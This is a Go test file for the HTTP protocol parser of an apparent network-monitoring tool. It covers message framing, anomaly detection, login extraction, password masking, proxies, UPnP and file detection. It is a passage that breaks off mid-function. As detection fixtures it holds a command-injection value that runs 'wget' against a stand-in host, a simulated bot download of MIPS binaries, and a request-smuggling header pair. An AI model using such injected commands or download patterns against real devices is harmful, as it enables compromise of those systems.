@@ -1,0 +1,548 @@
+package http
+
+import (
+	"bytes"
+	"compress/gzip"
+	"encoding/base64"
+	"fmt"
+	"net/netip"
+	"strings"
+	"testing"
+
+	"edgeward/internal/event"
+	"edgeward/internal/wire/proto"
+	"edgeward/internal/wire/proto/prototest"
+	"edgeward/internal/wire/proto/prototest/dialogue"
+)
+
+// crlf writes a message with the line ends that HTTP has.
+func crlf(s string) string { return strings.ReplaceAll(s, "\n", "\r\n") }
+
+// talk plays a conversation in whole turns and in single bytes, and gives the
+// connection of the former. Both must make the same facts.
+func talk(t *testing.T, turns ...dialogue.Turn) *proto.Conn {
+	t.Helper()
+	whole, single := prototest.NewConn(6, 80), prototest.NewConn(6, 80)
+	dialogue.Play(t, Protocol, whole, turns...)
+	dialogue.PlayBytes(t, Protocol, single, turns...)
+	if a, b := render(whole), render(single); a != b {
+		t.Errorf("facts depend on segmentation:\n%s\n%s", a, b)
+	}
+	return whole
+}
+
+func render(c *proto.Conn) string {
+	var b []byte
+	for _, f := range c.Env.Out.Facts() {
+		b = append(b, fmt.Sprint(f.Kind(), f.Src)...)
+		b = f.Body.AppendEVE(b)
+		b = append(b, '\n')
+	}
+	return fmt.Sprintf("%s%v %d", b, c.Messages, c.Errors)
+}
+
+func TestTransaction(t *testing.T) {
+	c := talk(t,
+		dialogue.C(crlf("POST /set?x=1 HTTP/1.1\nHost: cam.example:8080\nUser-Agent: ua/1\nReferer: http://r/\nContent-Type: application/json\nX-Forwarded-For: 192.0.2.9\nCookie: a=b\nContent-Length: 7\n\n")+`{"a":1}`),
+		dialogue.S(crlf("HTTP/1.1 200 OK\nServer: srv/2\nX-Powered-By: php\nVia: 1.1 v\nContent-Type: text/html\nContent-Length: 46\n\n")+"<html><title> A &amp;\n B </title></html>......"),
+	)
+	facts := dialogue.Facts[event.HTTP](c)
+	if len(facts) != 1 {
+		t.Fatalf("%d facts, want 1", len(facts))
+	}
+	want := event.HTTP{
+		Host: "cam.example", Port: 8080, URL: "/set?x=1", UserAgent: "ua/1", ContentType: "text/html", Referer: "http://r/",
+		Method: "POST", Protocol: "HTTP/1.1", Status: 200, Length: 46, ReqLength: 7, ReqType: "application/json",
+		Server: "srv/2", PoweredBy: "php", Via: "1.1 v", XForwarded: "192.0.2.9", Cookie: true,
+		ReqBody: `{"a":1}`, RespBody: "<html><title> A &amp;\n B </title></html>......", Title: "A & B",
+		RespMagic: "html", ReqMagic: "json",
+		HeaderNames: "Host,User-Agent,Referer,Content-Type,X-Forwarded-For,Cookie,Content-Length",
+	}
+	if *facts[0] != want {
+		t.Errorf("got  %+v\nwant %+v", *facts[0], want)
+	}
+	if c.Messages != [2]uint32{1, 1} {
+		t.Errorf("messages %v", c.Messages)
+	}
+	files := dialogue.Facts[event.FileInfo](c)
+	if len(files) != 1 || files[0].Magic != "html" || files[0].Size != 46 || files[0].Filename != "/set?x=1" || files[0].Dir != event.ToClient {
+		t.Errorf("files %+v", files)
+	}
+	var said []string
+	for _, f := range c.Env.Out.Facts() {
+		if id, ok := f.Body.(*event.Identity); ok {
+			said = append(said, fmt.Sprintf("%s %s %s", f.Src, id.Source, id.Banner))
+		}
+	}
+	if got, want := strings.Join(said, "\n"), "192.0.2.2 http.server srv/2\n192.0.2.2 http.title A & B\n192.0.2.1 http.user_agent ua/1"; got != want {
+		t.Errorf("identities %q, want %q", got, want)
+	}
+}
+
+// summary is one line a transaction: method, URL, status, response length.
+func summary(c *proto.Conn) string {
+	var b strings.Builder
+	for _, f := range dialogue.Facts[event.HTTP](c) {
+		fmt.Fprintf(&b, "%s %s %d %d\n", f.Method, f.URL, f.Status, f.Length)
+	}
+	return b.String()
+}
+
+func TestFramingOfConversations(t *testing.T) {
+	tests := []struct {
+		name  string
+		turns []dialogue.Turn
+		want  string
+		count [2]uint32
+	}{
+		{"pipelined", []dialogue.Turn{
+			dialogue.C(crlf("GET /a HTTP/1.1\n\nHEAD /b HTTP/1.1\n\nGET /c HTTP/1.1\n\n")),
+			dialogue.S(crlf("HTTP/1.1 200 OK\nContent-Length: 2\n\nxxHTTP/1.1 200 OK\nContent-Length: 9\n\nHTTP/1.1 404 No\nContent-Length: 3\n\nxxx")),
+		}, "GET /a 200 2\nHEAD /b 200 0\nGET /c 404 3\n", [2]uint32{3, 3}},
+		{"chunked", []dialogue.Turn{
+			dialogue.C(crlf("GET /a HTTP/1.1\n\n")),
+			dialogue.S(crlf("HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\n5\nhello\n10;ext=1\n0123456789abcdef\n0\nTrailer: x\n\n")),
+			dialogue.C(crlf("GET /b HTTP/1.1\n\n")),
+			dialogue.S(crlf("HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\n0\n\nHTTP/1.1 200 OK\nContent-Length: 0\n\n")),
+		}, "GET /a 200 21\nGET /b 200 0\n  200 0\n", [2]uint32{2, 3}},
+		{"continue", []dialogue.Turn{
+			dialogue.C(crlf("PUT /a HTTP/1.1\nExpect: 100-continue\nContent-Length: 3\n\n")),
+			dialogue.S(crlf("HTTP/1.1 100 Continue\n\n")),
+			dialogue.C("abc"),
+			dialogue.S(crlf("HTTP/1.1 201 Created\nContent-Length: 0\n\n")),
+		}, "PUT /a 201 0\n", [2]uint32{1, 2}},
+		{"until close", []dialogue.Turn{
+			dialogue.C(crlf("GET /a HTTP/1.0\n\n")),
+			dialogue.S(crlf("HTTP/1.0 200 OK\n\nhello")), dialogue.S("world"),
+		}, "GET /a 200 10\n", [2]uint32{1, 1}},
+		{"no length on a kept connection", []dialogue.Turn{
+			dialogue.C(crlf("GET /a HTTP/1.1\n\n")),
+			dialogue.S(crlf("HTTP/1.1 200 OK\n\nhello")),
+			dialogue.C(crlf("GET /b HTTP/1.1\n\n")),
+			dialogue.S(crlf("HTTP/1.1 304 Not Modified\n\n")),
+		}, "GET /a 200 5\nGET /b 304 0\n", [2]uint32{2, 2}},
+		{"unanswered", []dialogue.Turn{
+			dialogue.C(crlf("GET /a HTTP/1.1\n\nPOST /b HTTP/1.1\nContent-Length: 5\n\nxx")),
+		}, "GET /a 0 0\nPOST /b 0 0\n", [2]uint32{2, 0}},
+		{"response alone", []dialogue.Turn{
+			dialogue.S(crlf("HTTP/1.1 200 OK\nContent-Length: 1\n\nx")),
+		}, "  200 1\n", [2]uint32{0, 1}},
+		{"answered before the body ends", []dialogue.Turn{
+			dialogue.C(crlf("POST /a HTTP/1.1\nContent-Length: 5\n\nxx")),
+			dialogue.S(crlf("HTTP/1.1 413 Too Large\nContent-Length: 0\n\n")),
+			dialogue.C(crlf("xxxGET /b HTTP/1.1\n\n")),
+			dialogue.S(crlf("HTTP/1.1 200 OK\nContent-Length: 0\n\n")),
+		}, "POST /a 413 0\nGET /b 200 0\n", [2]uint32{2, 2}},
+		{"more pipelined than is kept", []dialogue.Turn{
+			dialogue.C(strings.Repeat(crlf("GET /a HTTP/1.1\n\n"), maxPipelined+2)),
+			dialogue.S(strings.Repeat(crlf("HTTP/1.1 200 OK\nContent-Length: 0\n\n"), maxPipelined+2)),
+		}, strings.Repeat("GET /a 0 0\n", 2) + strings.Repeat("  200 0\n", 2) + strings.Repeat("GET /a 200 0\n", maxPipelined), [2]uint32{maxPipelined + 2, maxPipelined + 2}},
+		{"an upgrade that is declined", []dialogue.Turn{
+			dialogue.C(crlf("GET /a HTTP/1.1\nUpgrade: h2c\n\n")),
+			dialogue.S(crlf("HTTP/1.1 200 OK\nContent-Length: 0\n\n")),
+			dialogue.C(crlf("GET /b HTTP/1.1\nUpgrade: h2c\n\nGET /c HTTP/1.1\n\n")),
+		}, "GET /a 200 0\nGET /b 0 0\nGET /c 0 0\n", [2]uint32{3, 1}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			c := talk(t, tt.turns...)
+			if got := summary(c); got != tt.want {
+				t.Errorf("got\n%swant\n%s", got, tt.want)
+			}
+			if c.Messages != tt.count || c.Errors != 0 {
+				t.Errorf("messages %v, want %v; %d errors", c.Messages, tt.count, c.Errors)
+			}
+		})
+	}
+}
+
+func TestBodiesAreSkipped(t *testing.T) {
+	p, c := Protocol.New(), prototest.NewConn(6, 80)
+	prototest.Feed(p, c, event.ToServer, []byte(crlf("GET /big HTTP/1.1\n\n")), 0)
+	head := crlf("HTTP/1.1 200 OK\nContent-Length: 1000000\n\n")
+	n, err := p.Data(c, event.ToClient, append([]byte(head), make([]byte, 2000)...))
+	if err != nil || n <= len(head)+2000 {
+		t.Fatalf("took %d bytes, %v; want more than there are", n, err)
+	}
+	for n < len(head)+999_999 {
+		m, err := p.Data(c, event.ToClient, []byte{0})
+		if err != nil || m < 1 {
+			t.Fatalf("at %d: took %d, %v", n, m, err)
+		}
+		n += m
+	}
+	if len(dialogue.Facts[event.HTTP](c)) != 0 {
+		t.Fatal("the body ended early")
+	}
+	p.Data(c, event.ToClient, []byte{0})
+	if got := summary(c); got != "GET /big 200 1000000\n" {
+		t.Errorf("got %q", got)
+	}
+}
+
+func TestGaps(t *testing.T) {
+	p, c := Protocol.New(), prototest.NewConn(6, 80)
+	say := func(dir event.Dir, s string) { prototest.Feed(p, c, dir, []byte(crlf(s)), 0) }
+	say(event.ToServer, "GET /a HTTP/1.1\n\n")
+	say(event.ToClient, "HTTP/1.1 200 OK\nContent-Length: 100\n\n0123456789")
+	p.Gap(c, event.ToClient, 89)
+	say(event.ToClient, "x")
+	say(event.ToServer, "GET /b HTTP/1.1\n\n")
+	say(event.ToClient, "HTTP/1.1 200 OK\nTransfer-Encoding: chunked\n\n14\n0123456789")
+	p.Gap(c, event.ToClient, 10)
+	say(event.ToClient, "\n0\n\n")
+	say(event.ToServer, "GET /c HTTP/1.1\n\n")
+	p.Gap(c, event.ToClient, 500)
+	say(event.ToClient, "tail of a body that was not seen\n")
+	say(event.ToServer, "GET /d HTTP/1.1\n\n")
+	say(event.ToClient, "more of itHTTP/1.1 404 No\nContent-Length: 0\n\n")
+	p.End(c)
+	if got, want := summary(c), "GET /a 200 100\nGET /b 200 20\nGET /c 0 0\nGET /d 404 0\n"; got != want {
+		t.Errorf("got\n%swant\n%s", got, want)
+	}
+	if c.Errors != 0 {
+		t.Errorf("%d errors", c.Errors)
+	}
+}
+
+func TestMidstream(t *testing.T) {
+	p, c := Protocol.New(), prototest.NewConn(6, 80)
+	c.Midstream = true
+	prototest.Feed(p, c, event.ToClient, []byte(crlf("</p></html>\nHTTP/1.1 200 OK\nContent-Length: 1\n\nx")), 0)
+	prototest.Feed(p, c, event.ToServer, []byte(crlf("b=2&c=3\nGET /x HTTP/1.1\n\n")), 0)
+	prototest.Feed(p, c, event.ToClient, []byte(crlf("HTTP/1.1 204 No Content\n\n")), 0)
+	p.End(c)
+	if got, want := summary(c), "  200 1\nGET /x 204 0\n"; got != want || c.Errors != 0 {
+		t.Errorf("got\n%swant\n%s%d errors", got, want, c.Errors)
+	}
+}
+
+func TestFaults(t *testing.T) {
+	get := dialogue.C(crlf("GET / HTTP/1.1\n\n"))
+	tests := []struct {
+		name string
+		turn dialogue.Turn
+		want string
+	}{
+		{"no request line", dialogue.C(crlf("\x01\x02\x03\n\n")), "request_line_invalid"},
+		{"no status line", dialogue.S(crlf("hello\n\n")), "status_line_invalid"},
+		{"request from the server", dialogue.S(crlf("GET / HTTP/1.1\n\n")), "status_line_invalid"},
+		{"two lengths", dialogue.C(crlf("POST / HTTP/1.1\nContent-Length: 1\nContent-Length: 2\n\n")), "content_length_invalid"},
+		{"smuggling", dialogue.C(crlf("POST / HTTP/1.1\nContent-Length: 1\nTransfer-Encoding: chunked\n\n0\n\n")), "content_length_and_chunked"},
+		{"chunk size", dialogue.C(crlf("POST / HTTP/1.1\nTransfer-Encoding: chunked\n\nzz\n")), "chunk_size_invalid"},
+		{"header without colon", dialogue.C(crlf("GET / HTTP/1.1\nnothing\n\n")), "field_no_colon"},
+		{"space in target", dialogue.C(crlf("GET /a b HTTP/1.1\n\n")), "target_with_space"},
+		{"endless head", dialogue.C(crlf("GET / HTTP/1.1\n") + strings.Repeat(crlf("A: b\n"), MaxHead/4)), "head_too_long"},
+	}
+	for _, tt := range tests {
+		c := prototest.NewConn(6, 80)
+		dialogue.Play(t, Protocol, c, get, tt.turn)
+		facts := dialogue.Facts[event.Anomaly](c)
+		if len(facts) != 1 || facts[0].Event != tt.want || facts[0].Dir != tt.turn.Dir {
+			t.Errorf("%s: got %+v, want %s", tt.name, facts, tt.want)
+		}
+	}
+	c := prototest.NewConn(6, 80)
+	dialogue.Play(t, Protocol, c, dialogue.C(strings.Repeat(crlf("GET / HTTP/1.1\nx\n\n"), 100)))
+	if n := len(dialogue.Facts[event.Anomaly](c)); n != maxAnomalies {
+		t.Errorf("%d anomalies of one flow, want %d", n, maxAnomalies)
+	}
+}
+
+func TestProbe(t *testing.T) {
+	tests := []struct {
+		name string
+		turn dialogue.Turn
+		want proto.Match
+	}{
+		{"request", dialogue.C("GET / HTTP/1.1\r\n"), proto.Yes},
+		{"odd method", dialogue.C("PROPFIND /x HTTP/1.0\r\n"), proto.Yes},
+		{"long request", dialogue.C("GET /" + strings.Repeat("a", 3000)), proto.More},
+		{"response", dialogue.S("HTTP/1.1 200 OK\r\n"), proto.Yes},
+		{"first letters", dialogue.C("GE"), proto.More},
+		{"first letters of a response", dialogue.S("HTT"), proto.More},
+		{"request from the server", dialogue.S("GET / HTTP/1.1\r\n"), proto.No},
+		{"http/2", dialogue.C("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), proto.No},
+		{"rtsp", dialogue.C("DESCRIBE rtsp://h/ RTSP/1.0\r\n"), proto.No},
+		{"sip", dialogue.C("OPTIONS sip:h SIP/2.0\r\n"), proto.No},
+		{"smtp", dialogue.C("EHLO there\r\n"), proto.No},
+		{"ftp", dialogue.C("USER anonymous\r\n"), proto.No},
+		{"tls", dialogue.C("\x16\x03\x01\x02\x00\x01"), proto.No},
+		{"irc", dialogue.C("NICK a\r\n"), proto.No},
+	}
+	for _, tt := range tests {
+		if got := dialogue.Recognise(Protocol, prototest.NewConn(6, 80), tt.turn); got != tt.want {
+			t.Errorf("%s: got %d, want %d", tt.name, got, tt.want)
+		}
+	}
+	c := prototest.NewConn(6, 80)
+	c.Midstream = true
+	if got := dialogue.Recognise(Protocol, c, dialogue.S("of a body\r\nHTTP/1.1 200 OK\r\n")); got != proto.Yes {
+		t.Errorf("midstream: got %d", got)
+	}
+}
+
+func basicAuth(user, pass string) string {
+	return "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte(user+":"+pass)) + "\n"
+}
+
+func TestLogins(t *testing.T) {
+	form := func(body string) string {
+		return fmt.Sprintf("POST /login HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\nContent-Length: %d\n\n%s", len(body), body)
+	}
+	json := `{"method":"login","params":{"userName":"admin","password":"top secret"}}`
+	soap := `<s:Envelope><wsse:UsernameToken><wsse:Username>admin</wsse:Username><wsse:Password Type="x#PasswordDigest">aGFzaA==</wsse:Password></wsse:UsernameToken></s:Envelope>`
+	const (
+		ok     = "HTTP/1.1 200 OK\nContent-Length: 0\n\n"
+		no     = "HTTP/1.1 401 Unauthorized\nWWW-Authenticate: Basic realm=\"cam\"\nContent-Length: 0\n\n"
+		broken = "HTTP/1.1 500 Oops\nContent-Length: 0\n\n"
+	)
+	tests := []struct {
+		name, request, response string
+		want                    string // user, secret length, outcome, mechanism, clear
+	}{
+		{"basic refused", "GET / HTTP/1.1\n" + basicAuth("admin", "1234") + "\n", no, "admin 4 failure basic true"},
+		{"basic accepted", "GET / HTTP/1.1\n" + basicAuth("admin", "1234") + "\n", ok, "admin 4 success basic true"},
+		{"basic accepted, page missing", "GET / HTTP/1.1\n" + basicAuth("a", "") + "\n", "HTTP/1.1 404 No\nContent-Length: 0\n\n", "a 0 success basic true"},
+		{"basic, server error", "GET / HTTP/1.1\n" + basicAuth("a", "b:c") + "\n", broken, "a 3 unknown basic true"},
+		{"basic, no answer", "GET / HTTP/1.1\n" + basicAuth("a", "b") + "\n", "", "a 1 unknown basic true"},
+		{"basic, no base64", "GET / HTTP/1.1\nAuthorization: Basic ***\n\n", ok, ""},
+		{"no credentials", "GET / HTTP/1.1\n\n", no, ""},
+		{"digest", "GET / HTTP/1.1\nAuthorization: Digest realm=\"cam\", username=\"root\", response=\"00\"\n\n", no, "root 0 failure digest false"},
+		{"digest, stale nonce", "GET / HTTP/1.1\nAuthorization: Digest username=\"root\"\n\n",
+			"HTTP/1.1 401 No\nWWW-Authenticate: Digest nonce=\"x\", stale=TRUE\nContent-Length: 0\n\n", ""},
+		{"bearer", "GET / HTTP/1.1\nAuthorization: Bearer abcdef\n\n", ok, " 6 success bearer true"},
+		{"proxy", "GET http://h/ HTTP/1.1\nProxy-" + basicAuth("p", "q") + "\n", "HTTP/1.1 407 No\nContent-Length: 0\n\n", "p 1 failure basic true"},
+		{"ntlm", "GET / HTTP/1.1\nAuthorization: NTLM " + base64.StdEncoding.EncodeToString(ntlmMessage("bob")) + "\n\n", no, "bob 0 failure ntlm false"},
+		{"form", form("username=ad%6din&password=p+w%21&x=y"), ok, "admin 4 success form true"},
+		{"form refused", form("user=a&pass=b"), "HTTP/1.1 403 No\nContent-Length: 0\n\n", "a 1 failure form true"},
+		{"form, back to the login page", form("user=a&pass=b"), "HTTP/1.1 302 Found\nLocation: /login.html?err=1\nContent-Length: 0\n\n", "a 1 failure form true"},
+		{"form, on to the page", form("user=a&pass=b"), "HTTP/1.1 302 Found\nLocation: /index.html\nContent-Length: 0\n\n", "a 1 success form true"},
+		{"form, page says no", form("luci_username=root&luci_password=b"), "HTTP/1.1 200 OK\nContent-Length: 24\n\n<p>Invalid user name</p>", "root 1 failure form true"},
+		{"form, page says nothing", form("user=a&pass=b"), "HTTP/1.1 200 OK\nContent-Type: text/html\nContent-Length: 19\n\n<html>hello</html>\n", "a 1 unknown form true"},
+		{"wi-fi key", form("ssid=home&password=12345678"), ok, ""},
+		{"json", fmt.Sprintf("POST /api HTTP/1.1\nContent-Type: application/json\nContent-Length: %d\n\n%s", len(json), json), ok, "admin 10 success form true"},
+		{"query", "GET /cgi-bin/check.cgi?loginuse=admin&loginpas=123456 HTTP/1.1\n\n", ok, "admin 6 success form true"},
+		{"ws-security", fmt.Sprintf("POST /onvif HTTP/1.1\nContent-Type: application/soap+xml\nContent-Length: %d\n\n%s", len(soap), soap), ok, "admin 0 success wsse false"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			turns := []dialogue.Turn{dialogue.C(crlf(tt.request))}
+			if tt.response != "" {
+				turns = append(turns, dialogue.S(crlf(tt.response)))
+			}
+			c := talk(t, turns...)
+			got := ""
+			for _, l := range dialogue.Facts[event.Login](c) {
+				got += fmt.Sprintf("%s %d %s %s %v", l.User, l.Secret.Len, l.Outcome, l.Mechanism, l.Clear)
+			}
+			if got != tt.want {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+// ntlmMessage makes an AUTHENTICATE message of a user.
+func ntlmMessage(user string) []byte {
+	m := make([]byte, 64)
+	copy(m, "NTLMSSP\x00\x03")
+	m[36], m[40], m[60] = byte(2*len(user)), 64, 1
+	for _, c := range user {
+		m = append(m, byte(c), 0)
+	}
+	return m
+}
+
+func TestAcceptedCredentialsCountOnce(t *testing.T) {
+	get := dialogue.C(crlf("GET / HTTP/1.1\n" + basicAuth("a", "b") + "\n"))
+	ok := dialogue.S(crlf("HTTP/1.1 200 OK\nContent-Length: 0\n\n"))
+	no := dialogue.S(crlf("HTTP/1.1 401 No\nContent-Length: 0\n\n"))
+	c := talk(t, get, no, get, no, get, ok, get, ok)
+	var got []string
+	for _, l := range dialogue.Facts[event.Login](c) {
+		got = append(got, l.Outcome)
+	}
+	if strings.Join(got, " ") != "failure failure success" {
+		t.Errorf("got %v", got)
+	}
+}
+
+func TestSecretsStayOut(t *testing.T) {
+	c := talk(t,
+		dialogue.C(crlf("GET /snap.cgi?user=admin&pwd=hunter2&ch=1 HTTP/1.1\nReferer: http://u:hunter2@h/?password=hunter2\n\n")),
+		dialogue.S(crlf("HTTP/1.1 302 Found\nLocation: /x?pwd=hunter2\nContent-Length: 0\n\n")))
+	for _, f := range c.Env.Out.Facts() {
+		if s := string(f.Body.AppendEVE(nil)); strings.Contains(s, "hunter2") {
+			t.Errorf("a password is in %s", s)
+		}
+	}
+	f := dialogue.Facts[event.HTTP](c)[0]
+	if f.URL != "/snap.cgi?user=admin&pwd=*******&ch=1" || f.Referer != "http://u:*******@h/?password=*******" {
+		t.Errorf("URL %q, referer %q", f.URL, f.Referer)
+	}
+	c = talk(t, dialogue.C(crlf("GET /login.cgi?user=x&password=$(wget%20http://198.51.100.1/a) HTTP/1.1\n\n")))
+	if f := dialogue.Facts[event.HTTP](c)[0]; !strings.Contains(f.URL, "wget") {
+		t.Errorf("an injected command was hidden: %q", f.URL)
+	}
+}
+
+func TestProxy(t *testing.T) {
+	tests := []struct {
+		name, request, response, want string
+		becomes                       bool
+	}{
+		{"connect", "CONNECT mail.example:25 HTTP/1.1\nHost: mail.example:25\n\n", "HTTP/1.1 200 Connection established\n\n", "connect mail.example:25 true", true},
+		{"connect refused", "CONNECT mail.example:25 HTTP/1.1\n\n", "HTTP/1.1 403 No\nContent-Length: 0\n\n", "connect mail.example:25 false", false},
+		{"absolute form", "GET http://site.example/ HTTP/1.1\n\n", "HTTP/1.1 200 OK\nVia: 1.1 proxy\nContent-Length: 0\n\n", "GET site.example true", false},
+		{"absolute form to a server that is no proxy", "GET http://site.example/ HTTP/1.1\n\n", "HTTP/1.1 200 OK\nContent-Length: 0\n\n", "GET site.example false", false},
+		{"absolute form of the server itself", "GET http://192.0.2.2:80/ HTTP/1.1\n\n", "HTTP/1.1 200 OK\nContent-Length: 0\n\n", "", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p, c := Protocol.New(), prototest.NewConn(6, 3128)
+			prototest.Feed(p, c, event.ToServer, []byte(crlf(tt.request)), 0)
+			prototest.Feed(p, c, event.ToClient, []byte(crlf(tt.response)), 0)
+			next, becomes := c.Becoming()
+			if becomes != tt.becomes || next != event.ProtoUnknown {
+				t.Errorf("becomes %v, %v", next, becomes)
+			}
+			got := ""
+			for _, s := range dialogue.Facts[event.SOCKS](c) {
+				got += fmt.Sprintf("%s %s %v", s.Command, s.Target, s.Granted)
+			}
+			if got != tt.want {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestConnectHoldsBytesForTheNextProtocol(t *testing.T) {
+	p, c := Protocol.New(), prototest.NewConn(6, 3128)
+	connect := crlf("CONNECT h:443 HTTP/1.1\n\n")
+	if n, err := p.Data(c, event.ToServer, []byte(connect+"early")); n != len(connect) || err != nil {
+		t.Errorf("took %d, %v", n, err)
+	}
+	granted := crlf("HTTP/1.1 200 OK\n\n")
+	if n, err := p.Data(c, event.ToClient, []byte(granted+"late")); n != len(granted) || err != nil {
+		t.Errorf("took %d, %v", n, err)
+	}
+}
+
+func TestWebSocketUpgrade(t *testing.T) {
+	p, c := Protocol.New(), prototest.NewConn(6, 80)
+	prototest.Feed(p, c, event.ToServer, []byte(crlf("GET /mqtt HTTP/1.1\nHost: broker.example\nUpgrade: websocket\nConnection: Upgrade\nSec-WebSocket-Protocol: mqtt, mqttv3.1\n\n")), 0)
+	prototest.Feed(p, c, event.ToClient, []byte(crlf("HTTP/1.1 101 Switching Protocols\nUpgrade: websocket\nSec-WebSocket-Protocol: mqtt\n\n")), 0)
+	if next, ok := c.Becoming(); !ok || next != event.ProtoWebSocket {
+		t.Fatalf("becomes %v, %v", next, ok)
+	}
+	if c.Note != "broker.example\n/mqtt\nmqtt" {
+		t.Errorf("note %q", c.Note)
+	}
+	if f := dialogue.Facts[event.HTTP](c); len(f) != 1 || f[0].Upgrade != "websocket" || f[0].Status != 101 {
+		t.Errorf("facts %+v", f)
+	}
+}
+
+func TestDescription(t *testing.T) {
+	body := `<?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0"><device>` +
+		`<deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1</deviceType><friendlyName>Bob&apos;s  box</friendlyName>` +
+		`<manufacturer>Maker &amp; Co</manufacturer><modelName>R</modelName><modelNumber>500</modelNumber><serialNumber>S1</serialNumber>` +
+		`<deviceList><device><friendlyName>inner</friendlyName></device></deviceList></device></root>`
+	c := talk(t, dialogue.C(crlf("GET /rootDesc.xml HTTP/1.1\n\n")),
+		dialogue.S(crlf(fmt.Sprintf("HTTP/1.1 200 OK\nContent-Type: text/xml\nContent-Length: %d\n\n", len(body)))+body))
+	ids := dialogue.Facts[event.Identity](c)
+	want := event.Identity{Source: "upnp.description", Vendor: "Maker & Co", Model: "R 500", Type: "router", Name: "Bob's box", Serial: "S1",
+		Banner: "urn:schemas-upnp-org:device:InternetGatewayDevice:1"}
+	if len(ids) != 1 || *ids[0] != want {
+		t.Errorf("got %+v, want %+v", ids, want)
+	}
+}
+
+func TestPortMapping(t *testing.T) {
+	body := `<s:Envelope><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost/>` +
+		`<NewExternalPort>8443</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>443</NewInternalPort>` +
+		`<NewInternalClient>192.0.2.77</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>camera</NewPortMappingDescription>` +
+		`<NewLeaseDuration>3600</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>`
+	request := dialogue.C(crlf(fmt.Sprintf("POST /ctl HTTP/1.1\nSOAPAction: \"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\"\nContent-Type: text/xml\nContent-Length: %d\n\n", len(body))) + body)
+	fault := `<UPnPError><errorCode>718</errorCode><errorDescription>ConflictInMappingEntry</errorDescription></UPnPError>`
+	want := event.Portmap{Protocol: "upnp", Transport: "tcp", ExternalPort: 8443, InternalPort: 443, InternalIP: netip.MustParseAddr("192.0.2.77"), Lifetime: 3600, Description: "camera"}
+	for _, tt := range []struct{ response, result string }{
+		{"HTTP/1.1 200 OK\nContent-Length: 0\n\n", "success"},
+		{fmt.Sprintf("HTTP/1.1 500 Error\nContent-Type: text/xml\nContent-Length: %d\n\n%s", len(fault), fault), "ConflictInMappingEntry"},
+	} {
+		c := talk(t, request, dialogue.S(crlf(tt.response)))
+		want.Result = tt.result
+		if got := dialogue.Facts[event.Portmap](c); len(got) != 1 || *got[0] != want {
+			t.Errorf("got %+v, want %+v", got, want)
+		}
+	}
+}
+
+func TestContentCoding(t *testing.T) {
+	var z bytes.Buffer
+	w := gzip.NewWriter(&z)
+	w.Write([]byte("<html><title>packed</title>" + strings.Repeat("<p>x</p>", 500)))
+	w.Close()
+	c := talk(t, dialogue.C(crlf("GET / HTTP/1.1\n\n")),
+		dialogue.S(crlf(fmt.Sprintf("HTTP/1.1 200 OK\nContent-Encoding: gzip\nContent-Length: %d\n\n", z.Len()))+z.String()))
+	f := dialogue.Facts[event.HTTP](c)[0]
+	if f.Title != "packed" || f.RespMagic != "html" || !f.Encoded || f.Length != uint64(z.Len()) || len(f.RespBody) != maxBody {
+		t.Errorf("got %+v", f)
+	}
+}
+
+func TestFiles(t *testing.T) {
+	elf := "\x7fELF\x01\x02\x01" + strings.Repeat("\x00", 11) + "\x00\x08" + strings.Repeat("\x00", 3000)
+	c := talk(t, dialogue.C(crlf("GET /bins/m.mips HTTP/1.1\nHost: 198.51.100.1\nUser-Agent: Wget\n\n")),
+		dialogue.S(crlf(fmt.Sprintf("HTTP/1.1 200 OK\nContent-Length: %d\n\n", len(elf)))+elf),
+		dialogue.C(crlf(fmt.Sprintf("POST /upload HTTP/1.1\nContent-Length: %d\n\n", len(elf)))+elf),
+		dialogue.S(crlf("HTTP/1.1 404 No\nContent-Length: 4\n\ngone")),
+		dialogue.C(crlf("GET /part HTTP/1.1\n\n")),
+		dialogue.S(crlf("HTTP/1.1 206 Partial\nContent-Range: bytes 100-199/1000\nContent-Length: 4\n\nabcd")))
+	got := ""
+	for _, f := range dialogue.Facts[event.FileInfo](c) {
+		got += fmt.Sprintf("%s %s %s %d %s %s\n", f.Filename, f.Host, f.Magic, f.Size, f.Dir, f.Agent)
+	}
+	want := fmt.Sprintf("/bins/m.mips 198.51.100.1 elf-mips %d to_client Wget\n/upload  elf-mips %d to_server \n", len(elf), len(elf))
+	if got != want {
+		t.Errorf("got\n%swant\n%s", got, want)
+	}
+}
+
+func TestReuseKeepsNothing(t *testing.T) {
+	p, c := Protocol.New(), prototest.NewConn(6, 80)
+	prototest.Feed(p, c, event.ToServer, []byte(crlf("GET /old HTTP/1.1\nHost: old\n"+basicAuth("old", "old")+"\n")), 0)
+	prototest.Feed(p, c, event.ToClient, []byte(crlf("HTTP/1.1 200 OK\nContent-Length: 10\n\nold")), 0)
+	p.Reset()
+	c = prototest.NewConn(6, 80)
+	prototest.Feed(p, c, event.ToServer, []byte(crlf("GET /new HTTP/1.1\n\n")), 0)
+	p.End(c)
+	if s := render(c); strings.Contains(s, "old") || !strings.Contains(s, "/new") {
+		t.Errorf("got %s", s)
+	}
+}
+
+func FuzzConversation(f *testing.F) {
+	dialogue.Fuzz(f, Protocol, 6, 80,
+		dialogue.Seed(dialogue.C(crlf("GET /a?user=x&pwd=y HTTP/1.1\nHost: h\n"+basicAuth("a", "b")+"\n")),
+			dialogue.S(crlf("HTTP/1.1 200 OK\nTransfer-Encoding: chunked\nContent-Encoding: gzip\n\n5\nhello\n0\n\n"))),
+		dialogue.Seed(dialogue.C(crlf("POST /l HTTP/1.1\nContent-Length: 13\n\n{\"user\":\"a\"}")),
